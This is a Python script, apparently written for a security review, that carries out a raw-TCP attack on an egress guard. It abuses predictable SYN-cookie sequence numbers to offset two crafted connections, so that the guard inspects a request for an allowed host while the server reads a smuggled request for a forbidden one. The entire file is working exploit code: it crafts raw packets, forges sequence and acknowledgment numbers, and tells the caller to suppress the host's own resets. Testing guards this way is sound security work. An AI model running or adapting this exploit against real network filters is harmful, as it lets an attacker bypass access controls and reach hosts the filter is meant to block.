"""The ninth review's attack on the first-flight guard (a guest's root in host mode, or
CAP_NET_RAW in-guest): a server in SYN-cookie mode answers a SYN statelessly, and its cookies
are predictable from one seen: C(X + d) = C(X) + d on one tuple within a minute (same MSS).
So its connection can be made to start d bytes after where the guard's flight starts:

  1. a raw SYN, ISN X1: the SYN-ACK (cookie C1) starts the guard's flight at X1 + 1;
  2. a raw SYN, ISN X2 = X1 + d, for conntrack (its SYN-ACK, C2 = C1 + d, is the guard's
     conflict, dropped; C2 is known anyway);
  3. `data`: segment B at X2 + 1 acknowledging C2 + 1 (the cookie: the server opens its
     connection there), the request the server reads, for EVIL; `bare`: a bare ACK there
     opens it, and B follows acknowledging only C1 + 1 (old to the server, which takes it);
  4. segment A at X1 + 1: what the guard judges from its start, a request for GOOD (which this
     guest resolved) whose bytes from d on are B.
The server reads B alone and answers for EVIL, unless the guard stops it. Prints the answer's
last line, or `error ...`.

usage: cookie_shift_attack.py SRC DST PORT data|bare GOOD EVIL   (as root; the caller drops
this host's own RSTs to DST, which its kernel would send for the raw connections, unless
they carry the mark 0x77)"""
import random
import socket
import struct
import sys
import time

src, dst, port, mode, good, evil = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], sys.argv[6]
SYN, ACK, PSH, RST, FIN = 0x02, 0x10, 0x08, 0x04, 0x01
MSS = struct.pack("!BBH", 2, 4, 1460)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x77)
sniff = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
sniff.settimeout(0.2)
sport = random.randint(42000, 60000)


def seg(seq, ack, flags, payload=b"", opts=b""):
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq & 0xffffffff, ack & 0xffffffff, (20 + len(opts)) // 4 << 4,
                      flags, 65535, 0, 0) + opts + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    return tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]


def send(p):
    try:
        raw.sendto(p, (dst, 0))
    except OSError as e:
        print("send failed", e, flush=True)


def packets(timeout):
    """The server's packets to sport, until timeout seconds pass."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            pkt = sniff.recv(65535)
        except socket.timeout:
            continue
        ihl = (pkt[0] & 15) * 4
        sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", pkt[ihl:ihl + 14])
        if socket.inet_ntoa(pkt[12:16]) == dst and sp == port and dp == sport:
            yield dict(seq=seq, ack=ack, flags=fl, data=pkt[ihl + (off >> 4) * 4:])


B = ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil).encode()
head = ("GET / HTTP/1.1\r\nHost: %s\r\nX-Pad: pppppppp\r\n\r\n" % good).encode()
A = head + B  # judged from the start: a request for GOOD, then "the client's own" bytes
d = len(head)
X1 = random.randint(1 << 20, 1 << 31)
send(seg(X1, 0, SYN, opts=MSS))
C1 = next((p["seq"] for p in packets(5) if p["flags"] & 0x12 == 0x12 and p["ack"] == X1 + 1), None)
if C1 is None:
    print("error no SYN-ACK")
    sys.exit(0)
X2, C2 = X1 + d, C1 + d
send(seg(X2, 0, SYN, opts=MSS))
# In order through one queue: no waits.
if mode == "data":
    send(seg(X2 + 1, C2 + 1, ACK | PSH, B))
    send(seg(X1 + 1, C2 + 1, ACK | PSH, A))
else:
    # The cookie's ACK alone; the data after it acknowledges only the SYN-ACK the guard saw
    # (an old acknowledgment to the server's connection, which it takes within a window).
    send(seg(X2 + 1, C2 + 1, ACK))
    send(seg(X2 + 1, C1 + 1, ACK | PSH, B))
    send(seg(X1 + 1, C1 + 1, ACK | PSH, A))
rcv, got = (C2 + 1) & 0xffffffff, b""
for p in packets(5):
    if p["flags"] & RST:
        print("error reset", flush=True)
        sys.exit(0)
    if p["seq"] == rcv and p["data"]:
        got += p["data"]
        rcv = (rcv + len(p["data"])) & 0xffffffff
        send(seg(X2 + 1 + len(B), rcv, ACK))
    if p["flags"] & FIN or b"\nhello" in got:
        break
text = got.decode(errors="replace").strip()
print(text.splitlines()[-1] if text else "error no answer")
